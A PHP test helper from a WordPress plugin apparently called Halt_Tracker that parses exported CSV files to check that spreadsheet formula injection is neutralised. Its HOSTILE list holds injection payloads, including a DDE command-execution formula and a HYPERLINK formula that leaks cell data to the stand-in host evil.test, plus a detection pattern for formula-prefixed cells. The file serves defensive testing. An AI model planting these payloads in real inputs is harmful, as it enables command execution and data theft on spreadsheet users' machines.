<?php
/**
 * An exported list as a spreadsheet takes it.
 *
 * @package Halt_Tracker
 */

declare(strict_types=1);

namespace Halt_Tracker\Faults;

/**
 * Reads CSV by its own rules, not by those of the plugin that wrote it.
 */
final class Sheet {

	/** What somebody types into a form so that another one's spreadsheet computes it. */
	public const HOSTILE = array(
		'=cmd|\'/C calc\'!A0',
		'=HYPERLINK("https://evil.test/?"&A2,"Click")',
		'+44 7700 900123',
		'-1+1',
		'@SUM(1+1)',
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		'＝1+1',
		'＠SUM(1)',
		'  =1+1',
		"\u{a0}=1+1",
		"\u{200b}=1+1",
		'"=1+1',
		'|calc',
		"'=1+1",
		'=1+1","=2+2',
	);

	/** What a spreadsheet may drop before it looks whether a cell is a formula. */
	private const DROPPED = '[\s"\p{Z}\p{Cf}\p{Cc}]*';

	/**
	 * Rows of cells, headings first.
	 *
	 * @var list<list<string>>
	 */
	public readonly array $rows;

	/**
	 * Reads a file.
	 *
	 * @param string $csv Its bytes.
	 */
	public function __construct( string $csv ) {
		$csv    = (string) preg_replace( '/^\xEF\xBB\xBF/', '', $csv );
		$by     = substr_count( (string) strtok( $csv, "\n" ), ';' ) > substr_count( (string) strtok( $csv, "\n" ), ',' ) ? ';' : ',';
		$memory = fopen( 'php://memory', 'r+' );
		$rows   = array();
		fwrite( $memory, $csv );
		rewind( $memory );
		while ( false !== ( $cells = fgetcsv( $memory, null, $by, '"', '' ) ) ) { // phpcs:ignore Generic.CodeAnalysis.AssignmentInCondition -- a reader.
			$rows[] = array_map( 'strval', $cells );
		}
		$this->rows = $rows;
	}

	/**
	 * Cells that a spreadsheet would compute.
	 *
	 * @return list<string>
	 */
	public function computed(): array {
		$found = array();
		foreach ( $this->rows as $cells ) {
			foreach ( $cells as $cell ) {
				if ( 1 === preg_match( '/^' . self::DROPPED . '[=+\-@|＝＋－＠]/u', $cell ) ) {
					$found[] = $cell;
				}
			}
		}
		return $found;
	}

	/**
	 * Whether every row has as many cells as there are headings: no text has broken out of its cell.
	 *
	 * @return bool
	 */
	public function is_even(): bool {
		return 1 === count( array_unique( array_map( 'count', $this->rows ) ) );
	}

	/**
	 * How many of these texts are in the list, once the apostrophe that the export has put in front is taken away
	 * again. Blanks around a text and control characters in it are not kept.
	 *
	 * @param list<string> $texts Texts, each somewhere in a cell of its own row.
	 * @return int
	 */
	public function has( array $texts ): int {
		$plain = static fn ( string $text ): string => trim( (string) preg_replace( '/[\s\p{Cc}\p{Z}\p{Cf}]+/u', ' ', $text ) );
		$cells = array_map( static fn ( string $cell ): string => $plain( preg_replace( "/^'/", '', $cell ) ), array_merge( ...$this->rows ) );
		return count( array_filter( $texts, static fn ( string $text ): bool => array() !== array_filter( $cells, static fn ( string $cell ): bool => str_starts_with( $cell, $plain( $text ) ) ) ) );
	}
}
